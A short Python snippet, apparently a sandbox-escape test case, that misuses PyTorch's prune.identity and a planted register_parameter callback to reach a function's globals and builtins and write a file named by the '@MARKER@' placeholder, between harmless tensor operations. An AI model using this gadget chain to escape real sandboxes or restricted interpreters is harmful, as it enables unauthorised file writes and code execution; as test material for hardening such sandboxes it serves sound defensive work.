import torch

before = torch.zeros(2, 3)
from torch.nn.utils import prune


def carrier():
    pass


def given(name, names):
    builtins = names["__builtins__"]
    opener = builtins["open"] if isinstance(builtins, dict) else builtins.open
    opener("@MARKER@", "w")


carrier._forward_pre_hooks = {}
carrier.register_parameter = given
try:
    prune.identity(carrier, "__globals__")
except AttributeError:
    pass
after = before.sum(dim=0)
